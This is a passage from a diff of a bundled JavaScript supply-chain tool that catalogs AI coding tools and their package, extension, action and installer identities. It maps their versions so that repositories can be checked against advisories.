                 return eq(version, range) ?? false;
-            return satisfies(version, range);
-        }
-        catch {
-            return version === range;
-        }
-    }
-    const release = releaseOf(version.replace(/^v(?=\d)/, ''));
-    const parsed = semver_default().valid(release, { loose: true });
-    if (parsed !== null) {
-        try {
-            return semver_default().satisfies(parsed, range, { includePrerelease: true, loose: true });
+            if (!valid(version))
+                return false;
+            return satisfies(version, range, { prereleases: true });
         }
         catch {
             return false;
         }
     }
-    // Not a semver version (a git tag like `beta`, a branch, a digest): exact match only.
-    return range.split('||').some((r) => r.trim() === version);
+    const parsed = semverOf(version);
+    if (parsed !== null && semver_default().validRange(range) !== null) {
+        return semver_default().satisfies(parsed, range, { includePrerelease: true });
+    }
+    const v = version.trim().toLowerCase();
+    return range.split('||').some((r) => r.trim().toLowerCase() === v);
+}
+/**
+ * For a moving reference known to carry `version` or a later one: `in` when every such version
+ * is in the range, `out` when none is, `maybe` otherwise.
+ */
+function lowerBoundIn(version, range) {
+    const v = semverOf(version);
+    if (v === null || semver_default().validRange(range) === null)
+        return 'maybe';
+    const bound = `>=${v}`;
+    const opts = { includePrerelease: true };
+    if (semver_default().subset(bound, range, opts))
+        return 'in';
+    if (!semver_default().intersects(bound, range, opts))
+        return 'out';
+    return 'maybe';
+}
+
+;// CONCATENATED MODULE: ./src/catalog/mappings.ts
+// How a carrier's version maps to the version of the tool it carries. The tables are data files
+// (src/catalog/data/), each with a header naming its source, date and method.
+
+
+
+
+
+
+/** A version string as the tool's scheme reads it, or null when it is not a version (`latest`, `main`). */
+function asToolVersion(scheme, version) {
+    const v = version.trim();
+    if (scheme === 'pep440')
+        return valid(v) ? v : null;
+    const release = releaseOf(v.replace(/^v(?=\d)/, ''));
+    return semver_default().valid(release, { loose: true }) !== null ? v.replace(/^v(?=\d)/, '') : null;
+}
+function notAVersion(version) {
+    return { kind: 'unknown', why: `"${version}" is not a version (a tag such as latest or stable moves)` };
+}
+/** The carrier is published with the tool's own version (platform packages, extensions, casks). */
+function sameVersion(scheme) {
+    return (version) => {
+        const v = asToolVersion(scheme, version);
+        return v === null ? notAVersion(version) : { kind: 'exact', versions: [v] };
+    };
+}
+/** A Homebrew version: the tool version, with a `_N` formula revision that does not change it. */
+function homebrewVersion(scheme) {
+    const same = sameVersion(scheme);
+    return (version) => same(version.replace(/_\d+$/, ''));
+}
+/** Versions written with a tag prefix (`rust-v0.58.0` for Codex release tags). */
+function prefixedVersion(scheme, prefix) {
+    const same = sameVersion(scheme);
+    return (version) => same(version.replace(prefix, ''));
+}
+/** The carrier's versions are a line of their own that the catalog cannot map. */
+function unmappedVersion(what) {
+    return (version) => ({
+        kind: 'unknown',
+        why: `${what} ${version} does not say which version of the tool it carries`,
+    });
+}
+const SDK_NPM = new Map(Object.entries(claude_agent_sdk_npm_namespaceObject.sc));
+/** `@anthropic-ai/claude-agent-sdk` (and its platform packages) → the bundled `claudeCodeVersion`. */
+function agentSdkNpmToCli(version) {
+    const v = releaseOf(version.trim().replace(/^v(?=\d)/, ''));
+    if (!SDK_NPM.has(v)) {
+        return semver_default().valid(v) === null
+            ? notAVersion(version)
+            : {
+                kind: 'unknown',
+                why: `@anthropic-ai/claude-agent-sdk ${v} is not in the catalog's table of bundled CLI versions (retrieved ${claude_agent_sdk_npm_namespaceObject.nB}); run scripts/refresh-catalog.mjs`,
+            };
+    }
+    const cli = SDK_NPM.get(v) ?? null;
+    return cli === null
+        ? {
+            kind: 'unknown',
+            why: `@anthropic-ai/claude-agent-sdk ${v} does not record which Claude Code CLI it bundles (no claudeCodeVersion)`,
+        }
+        : { kind: 'exact', versions: [cli] };
+}
+/** The PyPI table in release order, each release with the CLI it bundles (inherited when not bumped). */
+const SDK_PYPI = (() => {
+    const rows = Object.entries(claude_agent_sdk_pypi_namespaceObject.yh).sort(([a], [b]) => compare(a, b));
+    let current = null;
+    return rows.map(([version, bump]) => {
+        if (bump !== null)
+            current = bump;
+        return { version, cli: current };
+    });
+})();
+/** PyPI `claude-agent-sdk` → the Claude Code CLI it bundles (from its changelog). */
+function agentSdkPypiToCli(version) {
+    const v = version.trim();
+    if (!valid(v))
+        return notAVersion(version);
+    const row = SDK_PYPI.find((r) => eq(r.version, v));
+    if (!row) {
+        return {
+            kind: 'unknown',
+            why: `claude-agent-sdk ${v} (PyPI) is not in the catalog's changelog table (through ${SDK_PYPI.at(-1)?.version ?? 'none'})`,
+        };
+    }
+    return row.cli === null
+        ? {
+            kind: 'unknown',
+            why: `claude-agent-sdk ${v} (PyPI) predates the first bundled-CLI entry of its changelog`,
+        }
+        : { kind: 'exact', versions: [row.cli] };
+}
+const ACTION_TAGS = new Map(Object.entries(claude_code_action_tags_namespaceObject._A));
+const FLOATING = new Set(claude_code_action_tags_namespaceObject.Kb);
+const ACTION_COMMITS = (() => {
+    const m = new Map();
+    for (const [tag, row] of ACTION_TAGS) {
+        const e = m.get(row.commit) ?? { tags: [], versions: [] };
+        e.tags.push(tag);
+        for (const v of row.cliVersions)
+            if (!e.versions.includes(v))
+                e.versions.push(v);
+        m.set(row.commit, e);
+    }
+    return m;
+})();
+/** `anthropics/claude-code-action@REF` → the Claude Code CLI version(s) that ref installs. */
+function claudeCodeActionToCli(ref) {
+    const r = ref.trim();
+    if (/^[0-9a-f]{40}$/i.test(r)) {
+        const hit = ACTION_COMMITS.get(r.toLowerCase());
+        if (!hit) {
+            return {
+                kind: 'unknown',
+                why: `commit ${r} is not a tag of anthropics/claude-code-action in the catalog (snapshot ${claude_code_action_tags_namespaceObject.P9.slice(0, 8)} of ${claude_code_action_tags_namespaceObject.nB})`,
+            };
+        }
+        return hit.versions.length > 0
+            ? { kind: 'exact', versions: hit.versions }
+            : {
+                kind: 'unknown',
+                why: `commit ${r} (${hit.tags.join(', ')}) names no literal Claude Code version`,
+            };
+    }
+    const row = ACTION_TAGS.get(r);
+    if (!row) {
+        return {
+            kind: 'unknown',
+            why: `ref ${r} is not a tag of anthropics/claude-code-action in the catalog (a branch, or a tag newer than the snapshot of ${claude_code_action_tags_namespaceObject.nB})`,
+        };
+    }
+    if (row.cliVersions.length === 0) {
+        return {
+            kind: 'unknown',
+            why: `tag ${r} names no literal Claude Code version (it installs the CLI by other means)`,
+        };
+    }
+    if (FLOATING.has(r)) {
+        const lowest = [...row.cliVersions].sort((semver_default()).compare)[0];
+        return {
+            kind: 'atLeast',
+            version: lowest,
+            why: `${r} is a moving tag; it installed Claude Code ${row.cliVersions.join(' and ')} at the catalog snapshot (${row.date}) and only moves forward`,
+        };
+    }
+    return { kind: 'exact', versions: row.cliVersions };
+}
+/** The tags and commits of the action that install a CLI version in a range (for `catalog`). */
+function claudeCodeActionRefs(range) {
+    const out = [];
+    for (const [tag, row] of ACTION_TAGS) {
+        if (FLOATING.has(tag))
+            continue;
+        if (row.cliVersions.some((v) => semver_default().satisfies(v, range, { includePrerelease: true }))) {
+            out.push({ tag, commit: row.commit, cliVersions: row.cliVersions });
+        }
+    }
+    return out;
+}
+const tableDates = {
+    agentSdkNpm: claude_agent_sdk_npm_namespaceObject.nB,
+    agentSdkPypi: claude_agent_sdk_pypi_namespaceObject.nB,
+    claudeCodeAction: claude_code_action_tags_namespaceObject.nB,
+};
+
+;// CONCATENATED MODULE: ./src/catalog/data/npm-platform-packages.json
+const npm_platform_packages_namespaceObject = /*#__PURE__*/JSON.parse('{"d1":{"z":["@anthropic-ai/claude-code-darwin-arm64","@anthropic-ai/claude-code-darwin-x64","@anthropic-ai/claude-code-linux-arm64","@anthropic-ai/claude-code-linux-arm64-musl","@anthropic-ai/claude-code-linux-x64","@anthropic-ai/claude-code-linux-x64-musl","@anthropic-ai/claude-code-win32-arm64","@anthropic-ai/claude-code-win32-x64"],"w":["@anthropic-ai/claude-agent-sdk-darwin-arm64","@anthropic-ai/claude-agent-sdk-darwin-x64","@anthropic-ai/claude-agent-sdk-linux-arm64","@anthropic-ai/claude-agent-sdk-linux-arm64-musl","@anthropic-ai/claude-agent-sdk-linux-x64","@anthropic-ai/claude-agent-sdk-linux-x64-musl","@anthropic-ai/claude-agent-sdk-win32-arm64","@anthropic-ai/claude-agent-sdk-win32-x64"]}}');
+;// CONCATENATED MODULE: ./src/catalog/tools.ts
+// The AI coding tools the gate knows, each with every identity by which it enters a repository.
+// Names follow the component naming of the detectors (docs in DEVELOPERS.md / the common brief):
+// npm real names, PEP 503 PyPI names, lowercased `publisher.name` extensions, lowercased OCI ids
+// of devcontainer features, `owner/repo[/path]` actions, Homebrew tokens, installer URLs without
+// scheme.
+
+
+const SAME = 'same version as the tool';
+function npm(pkg, kind, scheme = 'semver') {
+    return { ecosystem: 'npm', package: pkg, kind, versionMapping: SAME, toolVersion: sameVersion(scheme) };
+}
+function pypi(pkg, kind, scheme = 'pep440') {
+    return { ecosystem: 'pypi', package: pkg, kind, versionMapping: SAME, toolVersion: sameVersion(scheme) };
+}
+function extension(id, kind, sameAsTool, scheme = 'semver') {
+    return {
+        ecosystem: 'vscode-extension',
+        package: id.toLowerCase(),
+        kind,
+        versionMapping: sameAsTool ? SAME : 'the extension has its own version line: unknown',
+        toolVersion: sameAsTool ? sameVersion(scheme) : unmappedVersion(`extension ${id.toLowerCase()}`),
+    };
+}
+function brew(token, type, scheme = 'semver') {
+    return {
+        ecosystem: 'homebrew',
+        package: token,
+        kind: `Homebrew ${type}`,
+        versionMapping: SAME,
+        toolVersion: homebrewVersion(scheme),
+    };
+}
+function feature(id, versionOption, scheme = 'semver', toolVersion = sameVersion(scheme)) {
+    return {
+        ecosystem: 'devcontainer-feature',
+        package: id.toLowerCase(),
+        kind: 'devcontainer feature',
+        versionMapping: versionOption
+            ? `the feature's "${versionOption.name}" option is the tool version (default ${versionOption.default})`
+            : 'the feature has no version option: it always installs the latest release',
+        versionOption,
+        toolVersion,
+    };
+}
+function action(id, versionInput) {
+    return {
+        ecosystem: 'github-action',
+        package: id,
+        kind: 'GitHub action',
+        versionMapping: versionInput
+            ? `the action's ref does not fix the tool version (input "${versionInput}" does, else the latest release): unknown`
+            : "the action's ref does not fix the tool version: unknown",
+        toolVersion: unmappedVersion(`action ${id}@`),
+    };
+}
+function installer(url, versionArgument, scheme = 'semver') {
+    return {
+        ecosystem: 'installer',
+        package: url,
+        kind: 'vendor install script',
+        versionMapping: 'the version argument is the tool version (none = latest)',
+        versionArgument,
+        toolVersion: sameVersion(scheme),
+    };
+}
+const claudeCodePlatform = npm_platform_packages_namespaceObject.d1.z;
+const agentSdkPlatform = npm_platform_packages_namespaceObject.d1.w;
+const claudeCode = {
+    id: 'claude-code',
+    name: 'Claude Code',
+    vendor: 'Anthropic',
+    homepage: 'https://www.anthropic.com/claude-code',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@anthropic-ai/claude-code', 'npm package (the CLI)'),
+        ...claudeCodePlatform.map((p) => npm(p, 'platform package (native build of the CLI)')),
+        {
+            ecosystem: 'npm',
+            package: '@anthropic-ai/claude-agent-sdk',
+            kind: 'Agent SDK (bundles the CLI)',
+            versionMapping: `the SDK version's "claudeCodeVersion" (table retrieved ${tableDates.agentSdkNpm})`,
+            toolVersion: agentSdkNpmToCli,
+        },
+        ...agentSdkPlatform.map((p) => ({
+            ecosystem: 'npm',
+            package: p,
+            kind: 'Agent SDK platform package (bundles the CLI)',
+            versionMapping: `as @anthropic-ai/claude-agent-sdk of the same version (table retrieved ${tableDates.agentSdkNpm})`,
+            toolVersion: agentSdkNpmToCli,
+        })),
+        {
+            ecosystem: 'pypi',
+            package: 'claude-agent-sdk',
+            kind: 'Python Agent SDK (bundles the CLI)',
+            versionMapping: `the bundled CLI named by the SDK changelog; a release without a bump bundles the previous one (table retrieved ${tableDates.agentSdkPypi})`,
+            toolVersion: agentSdkPypiToCli,
+        },
+        extension('anthropic.claude-code', 'VS Code / Open VSX extension (ships the CLI)', true),
+        {
+            ecosystem: 'github-action',
+            package: 'anthropics/claude-code-action',
+            kind: 'GitHub action (installs the CLI)',
+            versionMapping: `the CLI version each tag or tag commit installs (tag table retrieved ${tableDates.claudeCodeAction}); moving tags (v1) map to at least the version at the snapshot; branches and unknown commits: unknown`,
+            toolVersion: claudeCodeActionToCli,
+        },
+        action('anthropics/claude-code-base-action', null),
+        brew('claude-code', 'cask'),
+        feature('ghcr.io/anthropics/devcontainer-features/claude-code', null),
+        feature('ghcr.io/devcontainers-extra/features/claude-code', { name: 'version', default: 'latest' }),
+        installer('claude.ai/install.sh', 'positional: `bash -s 2.1.150` (or `stable`, `latest`)'),
+        installer('claude.ai/install.ps1', 'positional: `& ([scriptblock]::Create((irm …))) 2.1.150`'),
+        installer('claude.ai/install.cmd', 'positional: `install.cmd 2.1.150`'),
+    ],
+};
+const claudeAgentSdk = {
+    id: 'claude-agent-sdk',
+    name: 'Claude Agent SDK',
+    vendor: 'Anthropic',
+    homepage: 'https://docs.anthropic.com/en/docs/agent-sdk/overview',
+    versionScheme: 'semver',
+    note: 'Its own version line (0.x); a `tool: claude-code` rule also covers it through the CLI it bundles.',
+    carriers: [
+        npm('@anthropic-ai/claude-agent-sdk', 'npm package'),
+        ...agentSdkPlatform.map((p) => npm(p, 'platform package')),
+        {
+            ecosystem: 'pypi',
+            package: 'claude-agent-sdk',
+            kind: 'Python package (its own version line)',
+            versionMapping: 'the Python SDK has its own version line: unknown for version ranges',
+            toolVersion: unmappedVersion('claude-agent-sdk (PyPI)'),
+        },
+    ],
+};
+const codex = {
+    id: 'codex',
+    name: 'OpenAI Codex CLI',
+    vendor: 'OpenAI',
+    homepage: 'https://github.com/openai/codex',
+    versionScheme: 'semver',
+    note: 'Native builds are published as versions of @openai/codex itself (0.100.0-linux-x64): they are judged as their release.',
+    carriers: [
+        npm('@openai/codex', 'npm package (the CLI and its platform-suffixed builds)'),
+        {
+            ecosystem: 'npm',
+            package: '@openai/codex-sdk',
+            kind: 'TypeScript SDK (drives the CLI)',
+            versionMapping: 'the SDK has its own version line: unknown',
+            toolVersion: unmappedVersion('@openai/codex-sdk'),
+        },
+        brew('codex', 'cask'),
+        extension('openai.chatgpt', 'VS Code extension (Codex IDE extension)', false),
+        action('openai/codex-action', 'codex-version'),
+        action('openai/codex/.github/actions/codex', null),
+        feature('ghcr.io/jsburckhardt/devcontainer-features/codex', null),
+        feature('ghcr.io/sachitv/devcontainer-features/codex', { name: 'release_tag', default: 'latest' }, 'semver', prefixedVersion('semver', /^rust-v/)),
+    ],
+};
+const geminiCli = {
+    id: 'gemini-cli',
+    name: 'Gemini CLI',
+    vendor: 'Google',
+    homepage: 'https://github.com/google-gemini/gemini-cli',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@google/gemini-cli', 'npm package (the CLI)'),
+        npm('@google/gemini-cli-core', 'core library (versioned with the CLI)'),
+        brew('gemini-cli', 'formula'),
+        action('google-github-actions/run-gemini-cli', 'gemini_cli_version'),
+        action('google-gemini/gemini-cli-action', null),
+        feature('ghcr.io/stu-bell/devcontainer-features/gemini-cli', { name: 'version', default: 'latest' }),
+    ],
+};
+const geminiCodeAssist = {
+    id: 'gemini-code-assist',
+    name: 'Gemini Code Assist',
+    vendor: 'Google',
+    versionScheme: 'semver',
+    carriers: [extension('google.geminicodeassist', 'VS Code extension', true)],
+};
+const qwenCode = {
+    id: 'qwen-code',
+    name: 'Qwen Code',
+    vendor: 'Alibaba (QwenLM)',
+    homepage: 'https://github.com/QwenLM/qwen-code',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@qwen-code/qwen-code', 'npm package'),
+        action('QwenLM/qwen-code-action', 'qwen_cli_version'),
+    ],
+};
+const copilotCli = {
+    id: 'copilot-cli',
+    name: 'GitHub Copilot CLI',
+    vendor: 'GitHub',
+    homepage: 'https://github.com/github/copilot-cli',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@github/copilot', 'npm package'),
+        brew('copilot-cli', 'cask'),
+        feature('ghcr.io/devcontainers/features/copilot-cli', { name: 'version', default: 'latest' }),
+        installer('gh.io/copilot-install', 'environment variable `VERSION=…` for the script'),
+    ],
+};
+const githubCopilot = {
+    id: 'github-copilot',
+    name: 'GitHub Copilot (IDE extensions)',
+    vendor: 'GitHub',
+    versionScheme: 'semver',
+    carriers: [
+        extension('github.copilot', 'VS Code extension', true),
+        extension('github.copilot-chat', 'VS Code extension (chat and agent mode)', false),
+    ],
+};
+const cursor = {
+    id: 'cursor',
+    name: 'Cursor and Cursor CLI (cursor-agent)',
+    vendor: 'Anysphere',
+    homepage: 'https://cursor.com',
+    versionScheme: 'semver',
+    carriers: [installer('cursor.com/install', 'none (always the latest release)'), brew('cursor', 'cask')],
+};
+const amp = {
+    id: 'amp',
+    name: 'Amp',
+    vendor: 'Sourcegraph',
+    homepage: 'https://ampcode.com',
+    versionScheme: 'semver',
+    note: "The unscoped npm package `amp` and Amplitude's `amp` CLI are different projects: only @sourcegraph/amp is Amp.",
+    carriers: [
+        npm('@sourcegraph/amp', 'npm package'),
+        extension('sourcegraph.amp', 'VS Code extension', false),
+        installer('ampcode.com/install.sh', 'none (always the latest release)'),
+    ],
+};
+const aider = {
+    id: 'aider',
+    name: 'Aider',
+    vendor: 'Aider AI',
+    homepage: 'https://aider.chat',
+    versionScheme: 'pep440',
+    carriers: [
+        pypi('aider-chat', 'PyPI package (the CLI)'),
+        {
+            ecosystem: 'pypi',
+            package: 'aider-install',
+            kind: 'PyPI installer package',
+            versionMapping: 'the installer has its own version line: unknown',
+            toolVersion: unmappedVersion('aider-install'),
+        },
+        brew('aider', 'formula', 'pep440'),
+        installer('aider.chat/install.sh', 'none (always the latest release)', 'pep440'),
+        installer('aider.chat/install.ps1', 'none (always the latest release)', 'pep440'),
+    ],
+};
+const opencode = {
+    id: 'opencode',
+    name: 'OpenCode',
+    vendor: 'SST',
+    homepage: 'https://opencode.ai',
+    versionScheme: 'semver',
+    note: 'Not the archived Go project opencode-ai/opencode (now Crush).',
+    carriers: [
+        npm('opencode-ai', 'npm package (the CLI)'),
+        ...[
+            'opencode-darwin-arm64',
+            'opencode-darwin-x64',
+            'opencode-darwin-x64-baseline',
+            'opencode-linux-arm64',
+            'opencode-linux-arm64-musl',
+            'opencode-linux-x64',
+            'opencode-linux-x64-baseline',
+            'opencode-linux-x64-baseline-musl',
+            'opencode-linux-x64-musl',
+            'opencode-windows-arm64',
+            'opencode-windows-x64',
+            'opencode-windows-x64-baseline',
+        ].map((p) => npm(p, 'platform package')),
+        brew('sst/tap/opencode', 'formula'),
+        brew('opencode', 'formula'),
+        installer('opencode.ai/install', 'environment variable `VERSION=…` or `--version`'),
+        feature('ghcr.io/devcontainers-extra/features/opencode', { name: 'version', default: 'latest' }),
+    ],
+};
+const cline = {
+    id: 'cline',
+    name: 'Cline',
+    vendor: 'Cline',
+    homepage: 'https://cline.bot',
+    versionScheme: 'semver',
+    carriers: [
+        extension('saoudrizwan.claude-dev', 'VS Code extension', true),
+        npm('cline', 'npm package (the CLI)'),
+    ],
+};
+const rooCode = {
+    id: 'roo-code',
+    name: 'Roo Code',
+    vendor: 'Roo Code',
+    versionScheme: 'semver',
+    carriers: [extension('rooveterinaryinc.roo-cline', 'VS Code extension', true)],
+};
+const kiloCode = {
+    id: 'kilo-code',
+    name: 'Kilo Code',
+    vendor: 'Kilo Code',
+    homepage: 'https://kilocode.ai',
+    versionScheme: 'semver',
+    carriers: [
+        extension('kilocode.kilo-code', 'VS Code extension', true),
+        npm('@kilocode/cli', 'npm package (the CLI, its own version line)'),
+    ],
+};
+const continueDev = {
+    id: 'continue',
+    name: 'Continue',
+    vendor: 'Continue',
+    homepage: 'https://continue.dev',
+    versionScheme: 'semver',
+    carriers: [
+        extension('continue.continue', 'VS Code extension', true),
+        npm('@continuedev/cli', 'npm package (the `cn` CLI, its own version line)'),
+    ],
+};
+const goose = {
+    id: 'goose',
+    name: 'Goose',
+    vendor: 'Block',
+    homepage: 'https://block.github.io/goose',
+    versionScheme: 'semver',
+    note: 'Homebrew `goose` is a database migration tool: the agent is the `block-goose-cli` formula and `block-goose` cask.',
+    carriers: [
+        brew('block-goose-cli', 'formula'),
+        brew('block-goose', 'cask'),
+        installer('github.com/block/goose/releases/download/stable/download_cli.sh', 'environment variable `GOOSE_VERSION=…`'),
+        feature('ghcr.io/devcontainers-extra/features/codename-goose-cli', {
+            name: 'version',
+            default: 'stable',
+        }),
+    ],
+};
+const auggie = {
+    id: 'auggie',
+    name: 'Auggie (Augment Code)',
+    vendor: 'Augment Code',
+    homepage: 'https://www.augmentcode.com',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@augmentcode/auggie', 'npm package (the CLI)'),
+        extension('augment.vscode-augment', 'VS Code extension', false),
+    ],
+};
+const kimiCli = {
+    id: 'kimi-cli',
+    name: 'Kimi CLI',
+    vendor: 'Moonshot AI',
+    homepage: 'https://github.com/MoonshotAI/kimi-cli',
+    versionScheme: 'pep440',
+    carriers: [pypi('kimi-cli', 'PyPI package')],
+};
+const crush = {
+    id: 'crush',
+    name: 'Crush',
+    vendor: 'Charm',
+    homepage: 'https://github.com/charmbracelet/crush',
+    versionScheme: 'semver',
+    carriers: [npm('@charmland/crush', 'npm package'), brew('charmbracelet/tap/crush', 'formula')],
+};
+const windsurf = {
+    id: 'windsurf',
+    name: 'Windsurf (Codeium)',
+    vendor: 'Cognition (formerly Codeium)',
+    versionScheme: 'semver',
+    carriers: [
+        brew('windsurf', 'cask'),
+        extension('codeium.codeium', 'VS Code extension (Windsurf plugin)', false),
+    ],
+};
+const amazonQ = {
+    id: 'amazon-q',
+    name: 'Amazon Q Developer',
+    vendor: 'Amazon Web Services',
+    versionScheme: 'semver',
+    carriers: [
+        brew('amazon-q', 'cask'),
+        extension('amazonwebservices.amazon-q-vscode', 'VS Code extension', false),
+    ],
+};
+const kiro = {
+    id: 'kiro',
+    name: 'Kiro and Kiro CLI',
+    vendor: 'Amazon Web Services',
+    homepage: 'https://kiro.dev',
+    versionScheme: 'semver',
+    carriers: [brew('kiro', 'cask'), installer('cli.kiro.dev/install', 'none (always the latest release)')],
+};
+const droid = {
+    id: 'droid',
+    name: 'Droid (Factory)',
+    vendor: 'Factory',
+    homepage: 'https://factory.ai',
+    versionScheme: 'semver',
+    carriers: [
+        npm('droid', 'npm package'),
+        installer('app.factory.ai/cli', 'none (always the latest release)'),
+    ],
+};
+const junie = {
+    id: 'junie',
+    name: 'Junie CLI',
+    vendor: 'JetBrains',
+    homepage: 'https://www.jetbrains.com/junie/',
+    versionScheme: 'semver',
+    carriers: [
+        npm('@jetbrains/junie', 'npm package (wrapper that runs the CLI)'),
+        installer('junie.jetbrains.com/install.sh', 'none (always the latest release)'),
+        brew('jetbrains-junie/junie/junie', 'formula'),
+    ],
+};
+const codebuddy = {
+    id: 'codebuddy',
+    name: 'CodeBuddy Code',
+    vendor: 'Tencent',
+    versionScheme: 'semver',
+    carriers: [npm('@tencent-ai/codebuddy-code', 'npm package')],
+};
+const pi = {
+    id: 'pi',
+    name: 'Pi coding agent',
+    vendor: 'Mario Zechner',
+    homepage: 'https://github.com/badlogic/pi-mono',
+    versionScheme: 'semver',
+    carriers: [npm('@mariozechner/pi-coding-agent', 'npm package')],
+};
+const cody = {
+    id: 'cody',
+    name: 'Sourcegraph Cody',
+    vendor: 'Sourcegraph',
+    versionScheme: 'semver',
+    carriers: [extension('sourcegraph.cody-ai', 'VS Code extension', true)],
+};
+const tabnine = {
+    id: 'tabnine',
+    name: 'Tabnine',
+    vendor: 'Tabnine',
+    versionScheme: 'semver',
+    carriers: [extension('tabnine.tabnine-vscode', 'VS Code extension', true)],
+};
+const openhands = {
+    id: 'openhands',
+    name: 'OpenHands',
+    vendor: 'All Hands AI',
+    homepage: 'https://github.com/All-Hands-AI/OpenHands',
+    versionScheme: 'pep440',
+    carriers: [pypi('openhands-ai', 'PyPI package')],
+};
+const tools_tools = [
+    claudeCode,
+    claudeAgentSdk,
+    codex,
+    geminiCli,
+    geminiCodeAssist,
+    qwenCode,
+    copilotCli,
+    githubCopilot,
+    cursor,
+    amp,
+    aider,
+    opencode,
+    cline,
+    rooCode,
+    kiloCode,
+    continueDev,
+    goose,
+    auggie,
+    kimiCli,
+    crush,
+    windsurf,
+    amazonQ,
+    kiro,
+    droid,
+    junie,
+    codebuddy,
+    pi,
+    cody,
+    tabnine,
+    openhands,
+];
+
+;// CONCATENATED MODULE: ./src/catalog/render.ts
+// `ai-tooling-gate catalog`: the tools, every carrier of each, and the advisories.
+
+
+
+/** The action tags and commits that install a CLI version an advisory covers. */
+function affectedActionRefs(a) {
+    return a.tool === 'claude-code' ? claudeCodeActionRefs(a.versions) : [];
+}
+function catalogData() {
+    return {
+        schemaVersion: 1,
+        tools: tools_tools.map((t) => ({
+            id: t.id,
+            name: t.name,
+            vendor: t.vendor,
+            ...(t.homepage ? { homepage: t.homepage } : {}),
+            versionScheme: t.versionScheme,
+            ...(t.note ? { note: t.note } : {}),
+            carriers: t.carriers.map((c) => ({
+                ecosystem: c.ecosystem,
+                package: c.package,
+                kind: c.kind,
+                versionMapping: c.versionMapping,
+                ...(c.versionOption !== undefined ? { versionOption: c.versionOption } : {}),
+                ...(c.versionArgument !== undefined ? { versionArgument: c.versionArgument } : {}),
+            })),
+        })),
+        advisories: advisories.map((a) => ({
+            ...a,
+            policy: 'builtin:advisories',
+            action: 'fail',
+            locked: true,
+            affectedActionRefs: affectedActionRefs(a),
+        })),
+    };
+}
+function renderCatalogJson() {
+    return JSON.stringify(catalogData(), null, 2) + '\n';
+}
+function wrap(text, indent, width = 100) {
+    const out = [];
+    let line = '';
+    for (const word of text.split(/\s+/)) {
+        if (line && indent.length + line.length + 1 + word.length > width) {
+            out.push(indent + line);
+            line = word;
+        }
+        else
+            line = line ? `${line} ${word}` : word;
+    }
+    if (line)
+        out.push(indent + line);
+    return out;
+}
+function renderCatalogText() {
+    const lines = [];
+    lines.push(`AI coding tools (${tools_tools.length}). A policy rule \`tool: ID\` covers every carrier listed.`);
+    for (const t of tools_tools) {
+        lines.push('');
+        lines.push(`${t.id}  ${t.name} (${t.vendor})  version line: ${t.versionScheme}${t.homepage ? `  ${t.homepage}` : ''}`);
+        if (t.note)
+            lines.push(...wrap(`note: ${t.note}`, '  '));
+        const width = Math.max(...t.carriers.map((c) => c.ecosystem.length));
+        let previous = '';
+        for (const c of t.carriers) {
+            lines.push(`  ${c.ecosystem.padEnd(width)}  ${c.package}  (${c.kind})`);
+            const extra = [];
+            // Runs of carriers with the same mapping (platform packages) say it once.
+            if (c.versionMapping !== previous)
+                extra.push(`version: ${c.versionMapping}`);
+            if (c.versionArgument)
+                extra.push(`takes a version: ${c.versionArgument}`);
+            previous = c.versionMapping;
+            for (const e of extra)
+                lines.push(...wrap(e, `  ${' '.repeat(width)}    `));
+        }
+    }
+    lines.push('');
+    lines.push(`Advisories (${advisories.length}), enforced by builtin:advisories (included in builtin:default): locked, action fail.`);
+    for (const a of advisories) {
+        lines.push('');
+        lines.push(`${a.id}  ${a.title}  (published ${a.published})`);
+        lines.push(`  tool: ${a.tool}  affected: ${a.versions}  first clean release: ${a.firstClean}`);
+        lines.push(...wrap(`What: ${a.description}`, '  '));
+        lines.push(...wrap(`How it was established: ${a.evidence}`, '  '));
+        lines.push('  Sources:');
+        for (const s of a.sources)
+            lines.push(`    - ${s}`);
+        const refs = affectedActionRefs(a);
+        if (refs.length > 0) {
+            lines.push(`  anthropics/claude-code-action refs that install an affected CLI (${refs.length} tags):`);
+            lines.push(...wrap(refs.map((r) => `${r.tag}=${r.commit.slice(0, 12)}(${r.cliVersions.join('+')})`).join(' '), '    '));
+        }
+    }
+    return lines.join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/detectors/index.ts
+/**
+ * Every detector, one per file format. A new format is one module in this folder and one line
+ * here.
+ */
+const detectors = [];
+
+;// CONCATENATED MODULE: ./src/limits.ts
+const defaultLimits = {
+    maxFileBytes: 64 * 1024 * 1024,
+    maxFiles: 500_000,
+    maxDepth: 512,
+    maxComponentsPerFile: 1_000_000,
+};
+function limitsFromEnv(env, base = defaultLimits) {
+    const num = (name, fallback) => {
+        const raw = env[name];
+        if (raw === undefined || raw === '')
+            return fallback;
+        const n = Number(raw);
+        if (!Number.isSafeInteger(n) || n <= 0)
+            throw new Error(`${name}: "${raw}" is not a positive whole number`);
+        return n;
+    };
+    return {
+        maxFileBytes: num('AITG_MAX_FILE_BYTES', base.maxFileBytes),
+        maxFiles: num('AITG_MAX_FILES', base.maxFiles),
+        maxDepth: num('AITG_MAX_DEPTH', base.maxDepth),
+        maxComponentsPerFile: num('AITG_MAX_COMPONENTS_PER_FILE', base.maxComponentsPerFile),
+    };
+}
+
+;// CONCATENATED MODULE: ./src/sources/source.ts
+class SourceReadError extends Error {
+}
+/** Normalises a path relative to the root; returns null when it escapes the root. */
+function normalizeRelative(path) {
+    const parts = [];
+    for (const part of path.replace(/\\/g, '/').split('/')) {
+        if (part === '' || part === '.')
+            continue;
+        if (part === '..') {
+            if (parts.length === 0)
+                return null;
+            parts.pop();
+        }
+        else
+            parts.push(part);
+    }
+    return parts.join('/');
+}
+/** Directories never scanned, wherever they are. */
+function isSkippedPath(path) {
+    return /(^|\/)(node_modules|\.git)(\/|$)/.test(path);
+}
+
+;// CONCATENATED MODULE: ./src/util/text.ts
+// Decoding of file bytes into text: UTF-8 (with or without BOM) and UTF-16 with a BOM are read;
+// invalid UTF-8 and binary data are errors, so a lockfile that is not text fails closed.
+class DecodeError extends Error {
+    line;
+    constructor(message, line) {
+        super(message);
+        this.line = line;
+    }
+}
+const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: false });
+const utf16le = new TextDecoder('utf-16le', { fatal: true, ignoreBOM: false });
+const utf16be = new TextDecoder('utf-16be', { fatal: true, ignoreBOM: false });
+function decodeText(bytes) {
